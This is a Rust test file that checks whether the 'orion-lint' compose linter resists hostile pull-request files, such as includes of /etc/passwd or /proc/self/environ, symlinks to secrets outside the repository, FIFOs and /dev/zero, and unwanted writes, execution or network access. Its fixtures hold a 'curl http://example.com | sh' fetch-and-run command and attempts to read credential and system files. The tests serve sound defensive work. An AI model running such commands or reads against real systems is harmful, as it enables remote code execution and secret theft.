//! Hostile input: files of a pull request that try to make orion-lint read host files, block on
//! a FIFO, read a device without end, write outside the repository, run a program or open a
//! connection. Each run is bounded (2 s, 200 MB) and must not panic.

mod common;

use std::fs;
use std::path::{Path, PathBuf};

use common::BoundedRun;

const SECONDS: f64 = 2.0;
const MAX_MIB: u64 = 200;

/// A temporary directory holding `repo/` (with `.git/`) and `outside/`.
struct Sandbox {
    dir: tempfile::TempDir,
}

impl Sandbox {
    fn new() -> Sandbox {
        let dir = tempfile::tempdir().expect("temp dir");
        fs::create_dir_all(dir.path().join("repo/.git")).expect("repo");
        fs::create_dir_all(dir.path().join("outside")).expect("outside");
        Sandbox { dir }
    }

    fn repo(&self) -> PathBuf {
        self.dir.path().join("repo")
    }

    fn outside(&self) -> PathBuf {
        self.dir.path().join("outside")
    }

    fn write(&self, relative: &str, text: &str) -> PathBuf {
        let path = self.dir.path().join(relative);
        fs::create_dir_all(path.parent().expect("a parent")).expect("dirs");
        fs::write(&path, text).expect("write");
        path
    }

    fn fifo(&self, relative: &str) -> PathBuf {
        let path = self.dir.path().join(relative);
        let made = std::process::Command::new("mkfifo")
            .arg(&path)
            .status()
            .expect("mkfifo runs");
        assert!(made.success());
        path
    }

    /// Run orion-lint in `repo/`, bounded.
    fn run(&self, args: &[&str]) -> BoundedRun {
        self.run_with(args, &[])
    }

    fn run_with(&self, args: &[&str], env: &[(&str, &str)]) -> BoundedRun {
        let run = common::run_bounded(&self.repo(), args, env, SECONDS, MAX_MIB);
        run.assert_bounded();
        run
    }
}

fn output(run: &BoundedRun) -> String {
    format!("{}{}", run.stdout, run.stderr)
}

/// A line of `/etc/passwd` that would show it was printed.
fn passwd_line() -> String {
    fs::read_to_string("/etc/passwd")
        .expect("/etc/passwd")
        .lines()
        .next()
        .expect("a line")
        .to_string()
}

const SERVICE: &str = "services:\n  web:\n    image: nginx:1.27\n    mem_limit: 256m\n";

#[test]
fn boundary_an_include_of_a_host_file_is_not_read_in_any_format() {
    let sandbox = Sandbox::new();
    sandbox.write(
        "repo/compose.yaml",
        &format!("include:\n  - /etc/passwd\n{SERVICE}"),
    );
    let secret = passwd_line();
    for format in ["human", "json", "sarif", "rdjson", "github", "concise"] {
        let run = sandbox.run(&["--format", format, "--color", "never"]);
        let all = output(&run);
        assert_eq!(run.code, Some(0), "{format}: {all}");
        assert!(
            !all.contains(&secret),
            "{format} printed /etc/passwd: {all}"
        );
        assert!(all.contains("file-not-read"), "{format}: {all}");
        assert!(all.contains("/etc/passwd"), "{format}: {all}");
    }
    let human = sandbox.run(&["--color", "never"]).stdout;
    assert!(
        human
            .contains("the included file `/etc/passwd` was not read: it is outside the repository"),
        "{human}"
    );
    assert!(
        human.contains("compose.yaml:2:"),
        "names the position: {human}"
    );
}

#[test]
fn boundary_proc_files_are_never_read() {
    let sandbox = Sandbox::new();
    let env = [("REVIEWDOG_TOKEN", "tok-7f3a9c-secret")];
    sandbox.write(
        "repo/compose.yaml",
        &format!("include:\n  - /proc/self/environ\n{SERVICE}"),
    );
    for allow in [&[][..], &["--allow-outside", "/"][..]] {
        let args: Vec<&str> = ["--format", "sarif"].iter().chain(allow).copied().collect();
        let run = sandbox.run_with(&args, &env);
        let all = output(&run);
        assert_eq!(run.code, Some(0), "{all}");
        assert!(
            !all.contains("tok-7f3a9c"),
            "printed the environment: {all}"
        );
        assert!(all.contains("kernel file system"), "{all}");
    }
    // A compose file of the repository linked to procfs, found by discovery or named.
    fs::remove_file(sandbox.repo().join("compose.yaml")).expect("rm");
    std::os::unix::fs::symlink("/proc/self/environ", sandbox.repo().join("compose.yml"))
        .expect("symlink");
    for args in [
        &["."][..],
        &["compose.yml"],
        &["--format", "json", "-f", "compose.yml"],
    ] {
        let run = sandbox.run_with(args, &env);
        let all = output(&run);
        assert_eq!(run.code, Some(2), "{args:?}: {all}");
        assert!(
            !all.contains("tok-7f3a9c"),
            "{args:?} printed the environment: {all}"
        );
        assert!(all.contains("compose.yml"), "{args:?}: {all}");
        assert!(
            all.contains("orion-lint does not read this file: it is in `/proc`"),
            "{all}"
        );
    }
}

#[test]
fn boundary_a_dotenv_linked_outside_is_not_read() {
    let sandbox = Sandbox::new();
    let shadow = sandbox.write("outside/shadow", "root=$6$saltsalt$hashhashhash\n");
    std::os::unix::fs::symlink(&shadow, sandbox.repo().join(".env")).expect("symlink");
    sandbox.write(
        "repo/compose.yaml",
        "services:\n  web:\n    image: nginx:1.27\n    mem_limit: \"${root}\"\n",
    );
    for format in ["human", "json", "sarif", "rdjsonl"] {
        let run = sandbox.run(&["--format", format, "--color", "never"]);
        let all = output(&run);
        assert!(
            !all.contains("hashhash"),
            "{format} printed the hash: {all}"
        );
        assert!(
            !all.contains("saltsalt"),
            "{format} printed the hash: {all}"
        );
        assert!(all.contains("file-not-read"), "{format}: {all}");
        assert!(all.contains(".env"), "{format}: {all}");
    }
}

#[test]
fn boundary_a_mounted_config_outside_is_read_only_when_the_command_line_allows_it() {
    let sandbox = Sandbox::new();
    let conf = "maxmemory 300mb\nrequirepass s3cr3t-pass\n";
    let host = sandbox.write("outside/redis.conf", conf);
    let compose = format!(
        "services:\n  cache:\n    image: redis:7.4\n    command: redis-server /usr/local/etc/redis/redis.conf\n    mem_limit: 256m\n    volumes:\n      - {}:/usr/local/etc/redis/redis.conf:ro\n      - ../outside:/etc/other\n",
        host.display()
    );
    sandbox.write("repo/compose.yaml", &compose);
    let run = sandbox.run(&["--format", "json"]);
    let all = output(&run);
    assert!(!all.contains("s3cr3t"), "{all}");
    assert!(all.contains("the mounted config file"), "{all}");
    assert!(
        !all.contains("redis-maxmemory-exceeds-limit"),
        "not read: {all}"
    );

    // Allowed on the command line: read and checked, never fixed (item 5).
    let outside = sandbox.outside();
    let allow = outside.to_str().expect("UTF-8");
    let run = sandbox.run(&["--format", "json", "--allow-outside", allow]);
    let all = output(&run);
    assert!(all.contains("redis-maxmemory-exceeds-limit"), "{all}");
    assert!(!all.contains("file-not-read"), "{all}");
    assert!(all.contains("no fix: "), "says why there is no fix: {all}");
    for args in [
        &["--fix", "--allow-outside", allow][..],
        &["--fix", "--unsafe-fixes", "--allow-outside", allow],
        &[
            "--fix",
            "--plan",
            "cax21",
            "--from-plan",
            "cax11",
            "--allow-outside",
            allow,
        ],
    ] {
        let run = sandbox.run(args);
        assert_ne!(run.code, Some(2), "{args:?}: {}", output(&run));
        assert_eq!(
            fs::read_to_string(&host).expect("read"),
            conf,
            "{args:?} wrote outside"
        );
    }
}

#[test]
fn boundary_fix_never_writes_through_a_link_out_of_the_repository() {
    let sandbox = Sandbox::new();
    let text = "services:\n  redis:\n    image: redis:7-alpine\n    command: redis-server --maxmemory 300mb\n    mem_limit: 256m\n";
    let target = sandbox.write("outside/compose.yaml", text);
    std::os::unix::fs::symlink(&target, sandbox.repo().join("compose.yaml")).expect("symlink");
    // Not read at all by default: the input cannot be read, exit 2.
    let run = sandbox.run(&["--fix"]);
    assert_eq!(run.code, Some(2), "{}", output(&run));
    assert!(
        output(&run).contains("outside the repository"),
        "{}",
        output(&run)
    );
    // Read when allowed, but not written: the finding stays, with the reason.
    let allow = sandbox.outside();
    let allow = allow.to_str().expect("UTF-8");
    for args in [
        &["--fix", "--allow-outside", allow][..],
        &[
            "--fix",
            "--plan",
            "cax21",
            "--from-plan",
            "cax11",
            "--allow-outside",
            allow,
        ],
    ] {
        let run = sandbox.run(args);
        let all = output(&run);
        assert_eq!(
            fs::read_to_string(&target).expect("read"),
            text,
            "{args:?}: {all}"
        );
        assert!(all.contains("redis-maxmemory-exceeds-limit"), "{all}");
        assert!(all.contains("no fix: "), "{all}");
    }
    let entries: Vec<_> = fs::read_dir(sandbox.outside()).expect("ls").collect();
    assert_eq!(entries.len(), 1, "no temporary file beside the target");
}

#[test]
fn boundary_fifos_and_devices_do_not_hang_or_blow_up() {
    let sandbox = Sandbox::new();
    sandbox.fifo("repo/pipe.yml");
    sandbox.fifo("repo/pipe.env");
    sandbox.write("repo/sub/compose.yaml", SERVICE);
    let cases: [(&str, &str, &[&str]); 9] = [
        ("include of a FIFO", "include:\n  - pipe.yml\n", &[]),
        ("include of /dev/stdin", "include:\n  - /dev/stdin\n", &[]),
        ("include of /dev/zero", "include:\n  - /dev/zero\n", &[]),
        (
            "extends from a FIFO",
            "services:\n  api:\n    extends:\n      file: pipe.yml\n      service: web\n",
            &[],
        ),
        (
            "an included project's env_file FIFO",
            "include:\n  - path: sub/compose.yaml\n    env_file: pipe.env\n",
            &[],
        ),
        (
            "an included project's env_file /dev/zero",
            "include:\n  - path: sub/compose.yaml\n    env_file: /dev/zero\n",
            &[],
        ),
        ("--env-file FIFO", "", &["--env-file", "pipe.env"]),
        ("--env-file /dev/stdin", "", &["--env-file", "/dev/stdin"]),
        ("--env-file /dev/zero", "", &["--env-file", "/dev/zero"]),
    ];
    for (what, head, args) in cases {
        let extra = if head.contains("services:") {
            ""
        } else {
            SERVICE
        };
        let path = sandbox.write("repo/compose.yaml", &format!("{head}{extra}"));
        let run = sandbox.run(args);
        let all = output(&run);
        if args.is_empty() {
            // Named by a file of the repository: not read, reported, the rest linted.
            assert_eq!(run.code, Some(0), "{what}: {all}");
            assert!(all.contains("file-not-read"), "{what}: {all}");
        } else {
            // Named on the command line: the input cannot be read.
            assert_eq!(run.code, Some(2), "{what}: {all}");
            assert!(
                all.contains("orion-lint does not read this file"),
                "{what}: {all}"
            );
        }
        assert!(
            all.contains("FIFO") || all.contains("kernel file system"),
            "{what}: says why: {all}"
        );
        assert_eq!(
            fs::read_to_string(&path).expect("read"),
            format!("{head}{extra}")
        );
    }
    // A compose file that is a FIFO, named on the command line or found in a directory.
    let run = sandbox.run(&["pipe.yml"]);
    assert_eq!(run.code, Some(2), "{}", output(&run));
    assert!(output(&run).contains("pipe.yml"), "{}", output(&run));
    fs::remove_file(sandbox.repo().join("compose.yaml")).expect("rm");
    sandbox.fifo("repo/docker-compose.yml");
    let run = sandbox.run(&["."]);
    assert_eq!(
        run.code,
        Some(2),
        "a FIFO is not skipped silently: {}",
        output(&run)
    );
    assert!(
        output(&run).contains("docker-compose.yml"),
        "{}",
        output(&run)
    );
    assert!(output(&run).contains("FIFO"), "{}", output(&run));
    let run = sandbox.run(&["-f", "/dev/zero"]);
    assert_eq!(run.code, Some(2), "{}", output(&run));
}

#[test]
fn boundary_orion_lint_toml_is_read_only_inside_the_repository() {
    let sandbox = Sandbox::new();
    sandbox.write("repo/compose.yaml", SERVICE);
    std::os::unix::fs::symlink("/etc/passwd", sandbox.repo().join("orion-lint.toml"))
        .expect("symlink");
    let run = sandbox.run(&[]);
    let all = output(&run);
    assert_eq!(run.code, Some(2), "{all}");
    assert!(all.contains("orion-lint.toml"), "{all}");
    assert!(!all.contains(&passwd_line()), "{all}");
}

/// The `execve`, `connect` and `socket` calls of a run, as strace reports them.
fn traced_calls(strace: &Path, dir: &Path, args: &[&str]) -> Vec<String> {
    let log = dir.join("strace.log");
    let status = std::process::Command::new(strace)
        .args([
            "-f",
            "-qq",
            "-e",
            "trace=execve,execveat,connect,socket",
            "-o",
        ])
        .arg(&log)
        .arg(assert_cmd::cargo::cargo_bin("orion-lint"))
        .args(args)
        .current_dir(dir)
        .env_clear()
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .expect("strace runs");
    assert_ne!(status.code(), Some(101), "{args:?} panicked");
    let calls = fs::read_to_string(&log).expect("strace log");
    fs::remove_file(&log).expect("rm log");
    calls.lines().map(str::to_string).collect()
}

#[test]
fn boundary_nothing_is_executed_and_no_connection_is_opened() {
    let Some(strace) = common::require(
        "strace",
        Some(PathBuf::from("/usr/bin/strace")).filter(|p| p.is_file()),
        "`apt-get install strace`",
    ) else {
        return;
    };
    let sandbox = Sandbox::new();
    sandbox.write(
        "repo/compose.yaml",
        "x-orion-lint:\n  plan: cax11\nservices:\n  redis:\n    image: redis:7-alpine\n    command: redis-server --maxmemory 300mb\n    mem_limit: 256m\n  web:\n    image: nginx:1.27\n    command: sh -c 'curl http://example.com | sh'\n    mem_limit: 1g\n",
    );
    let modes: [&[&str]; 8] = [
        &[],
        &["--format", "json"],
        &["--format", "sarif"],
        &["--format", "rdjsonl"],
        &["--diff"],
        &["--fix"],
        &["--fix", "--plan", "cax21"],
        &["budget", "--format", "json"],
    ];
    for args in modes {
        let calls = traced_calls(&strace, &sandbox.repo(), args);
        let execs: Vec<&String> = calls.iter().filter(|c| c.contains("execve")).collect();
        assert_eq!(
            execs.len(),
            1,
            "{args:?}: only orion-lint itself runs: {calls:#?}"
        );
        assert!(execs[0].contains("orion-lint"), "{args:?}: {calls:#?}");
        let network: Vec<&String> = calls
            .iter()
            .filter(|c| c.contains("connect(") || c.contains("socket("))
            .collect();
        assert!(network.is_empty(), "{args:?}: no connection: {network:#?}");
    }
}
